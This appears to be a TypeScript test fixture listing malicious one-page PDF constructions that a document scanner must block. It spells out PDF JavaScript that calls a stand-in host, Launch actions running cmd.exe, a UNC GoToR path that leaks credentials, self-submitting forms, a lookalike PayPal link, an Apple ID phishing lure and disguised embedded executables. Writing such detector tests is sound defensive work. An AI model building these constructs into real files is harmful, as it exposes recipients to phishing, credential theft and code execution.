import type { ReasonCode } from "../../../../../core/documents/reasons/ReasonCatalog.ts"
import type { Objects } from "../MakePdf.ts"
import { plainFont, stream } from "../pages/MakePage.ts"

/** PDF that must be blocked. */
export interface MustBlock {
  readonly name: string
  /** Code that one of the reasons must have, also after a mutation. Null for any code. */
  readonly code: ReasonCode | null
  /** Objects of a valid file with one page. Object 1 is the catalog. */
  readonly objects: Objects
}

const call = "app.launchURL\\('http://call.example/home'\\)"
const script = `<</S/JavaScript/JS(${call})>>`

interface Places {
  readonly catalog?: string
  readonly page?: string
  readonly content?: string
  readonly objects?: Objects
}

/** Builds the objects of a document with one page. */
const page = ({ catalog = "", content = "BT /F 10 Tf 10 50 Td (Minutes) Tj ET", objects = {}, page = "" }: Places) => ({
  1: `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
  2: "<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 200 100]>>",
  3: `<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>${page}>>`,
  4: stream(content),
  5: plainFont,
  ...objects
})

const annotation = (entries: string, rect = "10 30 90 60"): string =>
  `/Annots[<</Type/Annot/Subtype/Link/Rect[${rect}]${entries}>>]`

const of = (code: ReasonCode, name: string, places: Places): MustBlock => ({ name, code, objects: page(places) })

/**
 * Shared actions are reached both from the catalog and from a link, because pdf.js reports the addresses of links, but
 * not of the action that runs when a document opens.
 */
export const mustBlock: ReadonlyArray<MustBlock> = [
  of("JAVASCRIPT", "a script when the document opens", { catalog: `/OpenAction${script}` }),
  of("JAVASCRIPT", "a script in a separate object", { catalog: "/OpenAction 6 0 R", objects: { 6: script } }),
  of("JAVASCRIPT", "a script in a stream", {
    catalog: "/OpenAction 6 0 R",
    objects: { 6: "<</S/JavaScript/JS 7 0 R>>", 7: stream(call.replaceAll("\\", "")) }
  }),
  of("JAVASCRIPT", "a named script", {
    catalog: `/Names<</JavaScript 6 0 R>>`,
    objects: { 6: `<</Names[(a)${script}]>>` }
  }),
  of("JAVASCRIPT", "a script when the document is saved", { catalog: `/AA<</WS${script}>>` }),
  of("JAVASCRIPT", "a script when the page opens", { page: "/AA 6 0 R", objects: { 6: `<</O${script}>>` } }),
  of("JAVASCRIPT", "a script of a field", {
    catalog: "/AcroForm<</Fields[6 0 R]>>",
    page: "/Annots[6 0 R]",
    objects: { 6: `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K${script}>>>>` }
  }),
  of("JAVASCRIPT", "a script that follows another action", {
    catalog: "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[6 0 R]>>",
    objects: { 6: script }
  }),
  of("LAUNCH_ACTION", "a link that starts a program", { page: annotation("/A<</S/Launch/F(cmd.exe)>>") }),
  of("LAUNCH_ACTION", "a program that starts when the document opens", {
    catalog: "/OpenAction 6 0 R",
    page: annotation("/A 6 0 R"),
    objects: { 6: "<</S/Launch/F<</Type/Filespec/F(cmd.exe)>>>>" }
  }),
  of("AUTO_ACTION", "an address that opens with the document", {
    catalog: "/OpenAction 6 0 R",
    page: annotation("/A 6 0 R"),
    objects: { 6: "<</S/URI/URI(http://call.example/home)>>" }
  }),
  of("AUTO_ACTION", "a form that sends itself", {
    catalog: "/AA<</WC 6 0 R>>",
    objects: { 6: "<</S/SubmitForm/F<</FS/URL/F(http://call.example/form)>>/Next<</S/JavaScript/JS(1;)>>>>" }
  }),
  of("CREDENTIAL_LEAK_PATH", "a path of a file server that opens with the document", {
    catalog: "/OpenAction 6 0 R",
    page: annotation("/A 6 0 R"),
    objects: { 6: "<</S/GoToR/D[0/Fit]/F(\\\\\\\\call.example\\\\a.pdf)>>" }
  }),
  of("REMOTE_DOCUMENT_ACTION", "a link to a document on the web", {
    page: annotation("/A<</S/GoToR/D[0/Fit]/F(http://call.example/a.pdf)>>")
  }),
  of("AUTO_ACTION", "an XML form that sends itself", {
    catalog: "/AcroForm<</Fields[]/XFA 6 0 R>>",
    objects: {
      6: stream("<xdp><event activity=\"docReady\"><submit target=\"http://192.0.2.7/\"/></event></xdp>")
    }
  }),
  of("SUSPICIOUS_LINK", "a link to a program at an IP address", {
    page: annotation("/A<</S/URI/URI(http://192.0.2.7/a.exe)>>")
  }),
  of("BRAND_LOOKALIKE", "a link to a look-alike", { page: annotation("/A<</S/URI/URI(https://paypa1-login.com/)>>") }),
  of("BRAND_LOOKALIKE", "a message in the name of a brand", {
    content: "BT /F 10 Tf 10 50 Td (Your Apple ID has been locked. Verify your account.) Tj ET",
    page: annotation("/A<</S/URI/URI(https://a.example/)>>")
  }),
  of("SOCIAL_LURE", "a page that is one link", {
    content: "BT /F 10 Tf 10 50 Td (View the invoice) Tj ET",
    page: annotation("/A<</S/URI/URI(https://a.example/)>>", "0 0 200 100")
  }),
  of("EMBEDDED_EXECUTABLE", "an attached program", {
    catalog: "/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>",
    objects: { 6: "<</Type/Filespec/F(notes.txt)/UF(notes.txt)/EF<</F 7 0 R>>>>", 7: stream("MZ\x90\0\x03") }
  }),
  of("EMBEDDED_EXECUTABLE", "a program attached to a page", {
    page: "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>]",
    objects: { 6: "<</Type/Filespec/F(setup.exe)/UF(setup.exe)/EF<</F 7 0 R>>>>", 7: stream("MZ\x90\0\x03") }
  })
]
